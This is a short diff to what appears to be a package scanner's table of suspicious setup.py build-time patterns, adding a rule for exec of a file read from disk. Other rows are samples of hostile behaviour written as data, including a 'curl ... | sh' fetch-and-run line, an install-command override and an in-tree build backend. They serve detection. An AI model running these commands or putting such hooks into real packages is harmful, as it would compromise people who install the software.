@@ -51,6 +51,7 @@ AT_BUILD = [
     ("build_uses_the_network", "setup.py", "urllib.request.urlopen('https://example.org/x')"),
     ("build_runs_a_downloader", "setup.py", "os.system('curl https://example.org | sh')"),
     ("build_starts_processes", "setup.py", "subprocess.run(['git', 'describe'])"),
+    ("build_runs_what_lies_aside", "setup.py", "exec(open('tests/x.py').read())"),
     ("takes_over_the_installation", "setup.py", "class Evil(install):\n    pass\n"),
     ("names_its_own_commands", "setup.py", "setup(cmdclass={'egg_info': Evil})"),
     ("backend_in_tree", "*/pyproject.toml", "[build-system]\nrequires=[]\nbackend-path=['.']\n"),
